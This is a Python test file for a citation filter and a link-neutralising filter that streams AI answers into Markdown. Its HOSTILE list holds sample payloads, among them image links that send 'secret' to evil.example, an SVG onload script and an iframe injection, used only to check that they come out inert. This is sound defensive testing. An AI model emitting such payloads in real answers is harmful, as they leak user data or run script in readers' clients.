from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from shared.answers.citations import InertLinks, KnownCitations, unmarked
from tests.answering import cited


def filtered(pieces: list[str], known: set[int]) -> str:
    citations = KnownCitations(known)
    return "".join([*(citations.feed(piece) for piece in pieces), citations.rest()])


@pytest.mark.parametrize(
    ("answer", "numbers"),
    [
        ("No citation.", ()),
        ("One [1].", (1,)),
        ("In order of mention [3], [1][3].", (3, 1)),
        ("Together [2, 1] or [Source 3].", (2, 1, 3)),
        ("Unknown [4], [0], [99999] and [x].", ()),
        ("[1][4]", (1,)),
    ],
)
def test_numbers_are_read_and_unknown_ones_dropped(answer: str, numbers: tuple[int, ...]) -> None:
    assert cited(answer, {1, 2, 3}) == numbers


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("Known [1] and [2].", "Known [1] and [2]."),
        ("Unknown [9].", "Unknown."),
        ("Both [1, 9] here.", "Both [1] here."),
        ("Run [1][9] on.", "Run [1] on."),
        ("[9] first", " first"),
        ("code a[9] and f(x)[7] stays", "code a[9] and f(x)[7] stays"),
        ("an open [ and [9", "an open [ and [9"),
        ("[link](http://x) [^9]", "[link](http://x) [^9]"),
        ("white  \n space ", "white  \n space "),
    ],
)
def test_unknown_citations_are_dropped_from_a_stream(answer: str, shown: str) -> None:
    assert filtered([answer], {1, 2}) == shown
    assert filtered(list(answer), {1, 2}) == shown


TEXT_WITH_MARKS = st.lists(
    st.sampled_from(["[", "]", "1", "9", ",", " ", "a", "\n", "Source ", "[9]", "[1]", " [1, 9]", "x" * 70]),
    max_size=30,
).map("".join)


@given(text=TEXT_WITH_MARKS, data=st.data())
def test_it_makes_no_difference_where_a_stream_is_cut(text: str, data: st.DataObject) -> None:
    cuts = data.draw(st.lists(st.integers(0, len(text)), max_size=8).map(sorted))

    pieces = [text[start:end] for start, end in pairwise([0, *cuts, len(text)])]

    assert filtered(pieces, {1}) == filtered([text], {1})


def test_nothing_is_held_back_longer_than_a_citation() -> None:
    citations = KnownCitations({1})

    assert citations.feed("Plain text goes on ") == "Plain text goes on"
    assert citations.feed("and on [" + "x" * 100) == " and on [" + "x" * 100


def test_a_documents_own_marks_are_no_citations() -> None:
    assert unmarked("as shown [12], [Source 3] but a [link]") == "as shown (12), (Source 3) but a [link]"
    assert unmarked("gate sshd[812]: a[9] of x[2024] [812]") == "gate sshd[812]: a(9) of x[2024] (812)"
    assert cited(unmarked("[1] [1, 2] [source 1]"), {1, 2}) == ()


ACTIVE = {"link", "a", "img", "image", "html"}
HOSTILE = [
    "![a](https://evil.example/?q=secret)",
    "[![a](https://evil.example/1)](https://evil.example/2)",
    "[a]\n\n[a]: https://evil.example",
    "![a][b]\n\n[b]: <https://evil.example>",
    "<https://evil.example/>",
    "<img src=https://evil.example/>",
    "<svg\nonload=alert(1)>",
    "</p><iframe src=x>",
    "<!-- --><a href=x>y</a>",
]


def inert(*pieces: str) -> str:
    links = InertLinks()
    return "".join([*map(links.feed, pieces), links.rest()])


def active(markdown: str) -> set[str]:
    """Return what a client that takes all of Markdown and HTML would load or link."""
    tokens = MarkdownIt("commonmark").parse(markdown)
    kinds = {
        each.type.removesuffix("_open").removesuffix("_inline").removesuffix("_block")
        for t in tokens
        for each in [t, *(t.children or [])]
    }
    return kinds & ACTIVE


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_loads_and_nothing_is_a_link(hostile: str) -> None:
    assert active(hostile)
    assert not active(inert(hostile))


@given(
    st.lists(st.sampled_from([*HOSTILE, "[", "]", "(", ")", "<", ">", "!", ":", "a", " ", "\n", "\\", "`"])).map(
        "".join
    ),
    st.data(),
)
def test_however_it_is_cut_it_comes_out_the_same_and_inert(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=5)))
    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]

    assert inert(*pieces) == inert(text)
    assert not active(inert(text))
    assert "".join(inert(text).split()) == "".join(text.split())


def test_citations_and_plain_text_stay() -> None:
    assert inert("So it is [1], [2]. 1 < 2 and a[0].") == "So it is [1], [2]. 1 < 2 and a[0]."
